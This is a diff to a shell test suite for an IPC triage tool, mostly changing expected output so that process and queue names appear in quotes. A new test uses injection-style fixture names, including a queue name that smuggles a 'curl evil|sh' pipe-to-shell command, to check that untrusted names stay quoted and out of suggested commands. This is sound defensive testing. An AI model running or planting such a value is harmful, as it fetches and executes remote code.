@@ -120,7 +120,7 @@ test_pending() {
 	pending 5 3145728
 	row shm_holders $INIT 5 70 hold
 	expect_findings <<-'END'
-		memory segment 5 (3M) removed by mark er (50) 1m 40s ago, held by hold (70)
+		memory segment 5 (3M) removed by "mark er" (50) 1m 40s ago, held by hold (70)
 		       ps -o pid,user,lstart,args -p 70
 	END
 	triage
@@ -128,7 +128,7 @@ test_pending() {
 	row shm_holders $INIT 5 70 hold
 	row shm_holders $INIT 5 71 hold
 	expect_findings <<-'END'
-		memory segment 5 (3M) removed by mark er (50) 1m 40s ago, held by hold (70) and 1 more: 3 mappings in 2 processes
+		memory segment 5 (3M) removed by "mark er" (50) 1m 40s ago, held by hold (70) and 1 more: 3 mappings in 2 processes
 		       ps -o pid,user,lstart,args -p 70,71
 	END
 	expect_cell bytes 3145728
@@ -145,7 +145,7 @@ test_pending_holder_unknown() {
 	nothing_wrong
 	pending 5 1024 $INNER
 	expect_findings <<-END
-		memory segment 5 of namespace $INNER (1K) removed by mark er (50) 1m 40s ago, held by nobody seen
+		memory segment 5 of namespace $INNER (1K) removed by "mark er" (50) 1m 40s ago, held by nobody seen
 		       ipclens holders --ipcns $INNER --sort shmid
 	END
 	# The same number in another namespace is another segment.
@@ -238,7 +238,7 @@ test_orphans() {
 	nothing_wrong
 	orphan 9 1536 1000 90000
 	expect_findings <<-'END'
-		memory orphan 9 (1.5K) of user 1000, left by left it (60), unused for 1d 1h
+		memory orphan 9 (1.5K) of user 1000, left by "left it" (60), unused for 1d 1h
 		       ipcrm -m 9
 	END
 	expect_cell uid 1000
@@ -266,11 +266,11 @@ test_orphans_grouped() {
 	expect_findings <<-END
 		memory 3 orphans (7K) of user 5, unused for up to 5m; biggest: 2 (4K), 3 (2K), 1 (1K)
 		       ipcrm -m 2 -m 3 -m 1
-		memory orphan 4 (1K) of user 6, left by left it (60), unused for 50s
+		memory orphan 4 (1K) of user 6, left by "left it" (60), unused for 50s
 		       ipcrm -m 4
-		memory orphan 6 of namespace $INNER (512B) of user 5, left by left it (60), unused for 1m 40s
+		memory orphan 6 of namespace $INNER (512B) of user 5, left by "left it" (60), unused for 1m 40s
 		       nsenter --target 812 --ipc ipcrm -m 6
-		tidy   orphan 5 (1K) of user 5, left by left it (60), unused for 1m 40s
+		tidy   orphan 5 (1K) of user 5, left by "left it" (60), unused for 1m 40s
 		       ipcrm -m 5
 	END
 }
@@ -363,7 +363,7 @@ test_unlinked_holders() {
 	hold "$WORK/q"
 	list_queue $INIT "$WORK/q" q 0
 	stage_run -n
-	expect_text out "^memory unlinked queue q (80.9K) still charged to an unknown user, open in hold er \
+	expect_text out "^memory unlinked queue q (80.9K) still charged to an unknown user, open in \"hold er\" \
 ($holder): 2 descriptors in 1 process$"
 	expect_text out "^       ps -o pid,user,lstart,args -p $holder$"
 	[ "$status" = 1 ] || fail "status is $status"
@@ -616,6 +616,27 @@ test_order() {
 	[ "$(grep -c '"next": "' "$WORK/out")" = 9 ] || fail 'a finding has no advice'
 }
 
+# A name is seen to be one, whatever it says.
+test_names_quoted() {
+	nothing_wrong
+	row mqueue $INIT 33 'q;curl\040evil|sh' 0 82880 $USERNS 1000 70 -
+	pending 5 1024
+	row shm_holders $INIT 5 70 'a"\040(1),\040by\040"b'
+	denial 10 70 'by:' 1000 perm - - - -
+	orphan 6 512 1000 100
+	sed -i 's/left\\040it/plain-1.0:+@_/' "$WORK/dir/shm"
+	expect_findings <<-END
+		fails  mq_open refused to "by:" (70), user 1000, 10s ago: perm
+		       ipclens denials --ipcns $INIT --output-all
+		memory unlinked queue "q;curl evil|sh" (80.9K) still charged to user 1000, holders unknown to a capture
+		       ipclens mqholders --ipcns $INIT
+		memory segment 5 (1K) removed by "mark er" (50) 1m 40s ago, held by "a' (1), by 'b" (70)
+		       ps -o pid,user,lstart,args -p 70
+		memory orphan 6 (512B) of user 1000, left by plain-1.0:+@_ (60), unused for 1m 40s
+		       ipcrm -m 6
+	END
+}
+
 # Names are whatever programs choose; they are in no command.
 test_hostile_names() {
 	# shellcheck disable=SC2016
@@ -681,7 +702,7 @@ test_missing_sections() {
 	# Without a time nothing has an age, and what may be new is not left out.
 	rm "$WORK/dir/status"
 	triage --orphan-age 1d
-	expect_text out '^memory orphan 6 (1K) of user 5, left by left it (60)$'
+	expect_text out '^memory orphan 6 (1K) of user 5, left by "left it" (60)$'
 }
 
 test_no_data() {
@@ -761,6 +782,6 @@ TESTS="test_nothing test_pending test_pending_holder_unknown test_pending_mark_u
 	test_orphans_grouped test_orphans_searched test_unlinked test_unlinked_holders test_users
 	test_users_ceiling test_users_unequal test_denials test_denials_unknown_user
 	test_denials_apart test_limits test_module test_module_losses test_module_probes test_order
-	test_hostile_names test_large_numbers test_missing_sections test_no_data test_cut
+	test_names_quoted test_hostile_names test_large_numbers test_missing_sections test_no_data test_cut
 	test_namespace test_usage test_real_captures"
 ktap_main
